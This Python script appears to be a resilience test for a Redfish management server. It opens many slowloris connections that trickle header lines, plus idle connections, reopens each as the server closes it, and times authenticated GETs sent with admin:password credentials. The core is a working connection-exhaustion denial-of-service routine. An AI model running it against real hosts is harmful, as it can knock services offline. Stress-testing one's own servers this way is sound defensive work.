#!/usr/bin/python3
# rfhostile.py HOST PORT SLOW IDLE SECONDS [GETS [TLS]]: hold SLOW slowloris
# connections (a request head trickled, one header line every TRICKLE s)
# and IDLE connections that send nothing, each re-opened as soon as the
# server closes it; SECONDS after they are all open, time GETS
# authenticated GETs of the System (admin:password, a new connection
# each, one every half second) while the attack goes on.  TLS=1: the idle ones are
# HTTPS connections that never send a ClientHello and the GETs use HTTPS.
# Prints one "get MS STATUS" line per GET, the most held at once during
# them ("peak S/SLOW slow I/IDLE idle"), then a summary (at the end):
#   held S/SLOW slow I/IDLE idle; reopened R; gets N max MS median MS; failed F
# Exit 0 always (the caller judges the figures).
# SPDX-License-Identifier: ISC
import base64, http.client, os, selectors, socket, ssl, sys, threading, time

host, port = sys.argv[1], int(sys.argv[2])
nslow, nidle, dur = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
ngets = int(sys.argv[6]) if len(sys.argv) > 6 else 10
tls = len(sys.argv) > 7 and sys.argv[7] == '1'
TRICKLE = float(os.environ.get('TRICKLE', '1'))
AUTH = 'Basic ' + base64.b64encode(b'admin:password').decode()
# GET_PATH: what is timed (and trickled), the System unless told
GET_PATH = os.environ.get('GET_PATH', '/redfish/v1/Systems/srv1')
HEAD = (b'GET %s HTTP/1.1\r\nHost: %s\r\n'
        % (GET_PATH.encode(), host.encode()))

sel = selectors.DefaultSelector()
conns = {}          # socket -> [kind, connected, next_send]
reopened = 0


def open_one(kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        return
    conns[s] = [kind, False, 0.0]
    sel.register(s, selectors.EVENT_WRITE)


def drop(s):
    sel.unregister(s)
    kind = conns.pop(s)[0]
    s.close()
    return kind


def held(kind):
    return sum(1 for v in conns.values() if v[0] == kind and v[1])


results = []


def getter():
    ctx = ssl._create_unverified_context()
    # wait until the hostile connections are in place (or 10 s), then
    # SECONDS more: the server has closed and we re-opened many by then
    t_end = time.monotonic() + 10
    while time.monotonic() < t_end and \
            (held('slow') < nslow or held('idle') < nidle):
        time.sleep(0.05)
    time.sleep(dur)
    for _ in range(ngets):
        t0 = time.monotonic()
        try:
            if tls:
                c = http.client.HTTPSConnection(host, port, timeout=60,
                                                context=ctx)
            else:
                c = http.client.HTTPConnection(host, port, timeout=60)
            c.request('GET', GET_PATH,
                      headers={'Authorization': AUTH})
            r = c.getresponse()
            r.read()
            st = r.status
            c.close()
        except OSError as e:
            st = 'error:' + type(e).__name__
        ms = (time.monotonic() - t0) * 1000
        results.append((ms, st))
        print('get %.0f %s' % (ms, st), flush=True)
        time.sleep(0.5)


for _ in range(nslow):
    open_one('slow')
for _ in range(nidle):
    open_one('idle')
g = threading.Thread(target=getter, daemon=True)
g.start()
buf = bytearray(4096)
peak = {'slow': 0, 'idle': 0}   # most held at once while the GETs ran
while g.is_alive():
    now = time.monotonic()
    for k in peak:
        peak[k] = max(peak[k], held(k))
    for key, ev in sel.select(timeout=0.05):
        s = key.fileobj
        st = conns.get(s)
        if st is None:
            continue
        if not st[1]:
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                kind = drop(s)
                reopened += 1
                open_one(kind)
                continue
            st[1] = True
            sel.modify(s, selectors.EVENT_READ)
            if st[0] == 'slow':
                try:
                    s.send(HEAD)
                except OSError:
                    pass
                st[2] = now + TRICKLE
            continue
        try:
            n = s.recv_into(buf)
        except BlockingIOError:
            continue
        except OSError:
            n = 0
        if n == 0:              # closed by the server: open another
            kind = drop(s)
            reopened += 1
            open_one(kind)
    for s, st in list(conns.items()):
        if st[0] == 'slow' and st[1] and now >= st[2]:
            st[2] = now + TRICKLE
            try:
                s.send(b'X-a: b\r\n')
            except OSError:
                kind = drop(s)
                reopened += 1
                open_one(kind)
g.join()
ms = sorted(r[0] for r in results)
failed = sum(1 for r in results if r[1] != 200)
print('peak %d/%d slow %d/%d idle' % (peak['slow'], nslow, peak['idle'],
                                      nidle))
print('held %d/%d slow %d/%d idle; reopened %d; gets %d max %.0f median %.0f;'
      ' failed %d' % (held('slow'), nslow, held('idle'), nidle, reopened,
                      len(ms), ms[-1] if ms else -1,
                      ms[len(ms) // 2] if ms else -1, failed))
